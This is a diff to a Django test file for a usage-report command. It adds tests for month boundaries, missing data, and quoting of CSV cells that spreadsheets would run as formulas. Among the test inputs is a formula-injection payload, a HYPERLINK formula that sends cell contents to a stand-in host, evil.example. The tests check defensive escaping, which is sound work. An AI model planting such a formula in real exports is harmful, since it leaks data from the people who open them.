@@ -10,6 +10,7 @@ from django.core.management.base import CommandError
 from django.db import connections
 
 from accounts.tests.factories import UserFactory
+from analytics import selectors
 from analytics.management.commands.usage_report import Command
 from analytics.tests.helpers import activity, utc_today
 from contracts.tests.factories import ContractFactory
@@ -47,7 +48,10 @@ def run(*args: str) -> tuple[str, str]:
     return stdout.getvalue(), stderr.getvalue()
 
 
-def test_it_prints_a_table_and_a_summary(usage):
+def test_it_prints_a_table_and_a_summary(usage, monkeypatch):
+    # November is over, and its data complete, on this day.
+    monkeypatch.setattr(selectors, "utc_today", lambda: dt.date(2026, 12, 15))
+
     out, _ = run("--org", "acme.io", "--month", "2026-11")
 
     lines = out.splitlines()
@@ -112,6 +116,38 @@ def test_it_prints_csv(usage):
     assert rows[1]["utilization"] == ""
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        "+1+cmd",
+        "-2+3",
+        "@SUM(A1)",
+        "\tTab",
+        "\rReturn",
+    ],
+)
+def test_it_quotes_cells_a_spreadsheet_would_run_as_formulas(usage, name):
+    usage.vendor_name = name
+    usage.save()
+
+    out, _ = run("--org", "acme.io", "--month", "2026-10", "--format", "csv")
+
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert rows[0]["vendor_name"] == "'" + name
+    assert rows[0]["active_users"] == "1"
+
+
+def test_it_leaves_ordinary_names_as_they_are(usage):
+    usage.vendor_name = "Slack = chat"
+    usage.save()
+
+    out, _ = run("--org", "acme.io", "--month", "2026-10", "--format", "csv")
+
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert rows[0]["vendor_name"] == "Slack = chat"
+
+
 def test_it_finds_the_organization_by_public_id(usage, organization):
     out, _ = run("--org", organization.public_id, "--month", "2026-11")
 
@@ -131,6 +167,40 @@ def test_it_changes_nothing(usage):
     run("--org", "acme.io", "--month", "2026-11")
 
     assert Activity.objects.count() == before
+
+
+def test_it_exits_non_zero_for_a_month_that_has_not_started(
+    organization, monkeypatch, capsys
+):
+    monkeypatch.setattr(connections, "close_all", lambda: None)
+
+    with pytest.raises(SystemExit) as exit_info:
+        Command().run_from_argv(
+            ["manage.py", "usage_report", "--org", "acme.io", "--month", "2030-01"]
+        )
+
+    assert exit_info.value.code == 1
+    assert "2030-01 has not started yet, so there is no usage to report." in (
+        capsys.readouterr().err
+    )
+
+
+@pytest.mark.parametrize("fmt", ["table", "csv"])
+def test_it_reports_no_waste_for_a_month_without_data(usage, fmt):
+    out, err = run("--org", "acme.io", "--month", "1999-01", "--format", fmt)
+
+    summary = (out if fmt == "table" else err).strip().splitlines()[-1]
+    assert summary.startswith(
+        "Acme (acme.io), 1999-01: 2 contracts, annual spend 9,500.00, estimated "
+        "waste unknown. proCure has no data for 1999-01: its data for this "
+        "organization begins on 2026-10-31."
+    )
+    if fmt == "csv":
+        rows = list(csv.DictReader(io.StringIO(out)))
+        assert [row["estimated_waste"] for row in rows] == ["", ""]
+        assert rows[0]["utilization"] == ""
+    else:
+        assert out.splitlines()[1].split()[3:5] == ["-", "-"]
 
 
 def test_it_refuses_an_unknown_organization(db):
